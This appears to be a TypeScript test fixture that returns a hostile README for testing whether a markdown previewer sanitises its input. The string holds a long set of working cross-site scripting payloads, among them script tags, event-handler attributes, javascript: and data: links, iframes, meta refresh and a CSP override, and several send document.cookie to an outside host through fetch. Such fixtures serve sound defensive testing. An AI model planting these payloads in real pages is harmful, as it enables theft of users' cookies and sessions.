/** What somebody may put into a README to act as whoever previews it. `elsewhere` is another server. */
export function hostileReadme(elsewhere: string): string {
  const attack = `globalThis.owned=true;document.title='owned';top.document.title='owned';fetch('${elsewhere}/stolen?'+document.cookie)`;
  return `# Hostile

<script>${attack}</script>
<script src="${elsewhere}/stolen.js"></script>
<img src="x" onerror="${attack}">
<svg onload="${attack}"><script>${attack}</script></svg>
<svg><animate onbegin="${attack}" attributeName="x" dur="1s"/></svg>
<details open ontoggle="${attack}"><summary>more</summary></details>
<iframe src="${elsewhere}/stolen-frame"></iframe>
<iframe srcdoc="&lt;script&gt;parent.owned=true&lt;/script&gt;"></iframe>
<iframe src="javascript:parent.owned=true"></iframe>
<object data="${elsewhere}/stolen-object"></object>
<embed src="${elsewhere}/stolen-embed">
<meta http-equiv="refresh" content="0; url=${elsewhere}/stolen-refresh">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel="stylesheet" href="${elsewhere}/stolen.css">
<style>@import url(${elsewhere}/stolen-import.css); body { background: url(${elsewhere}/stolen-background) }</style>
<base href="${elsewhere}/">
<img src="${elsewhere}/stolen.png">
<form action="${elsewhere}/stolen-form"><button>Send the form</button></form>
<a href="javascript:${attack}">A script link</a>
<a href="data:text/html,<script>parent.owned=true</script>">A data link</a>

The end of it.
`;
}
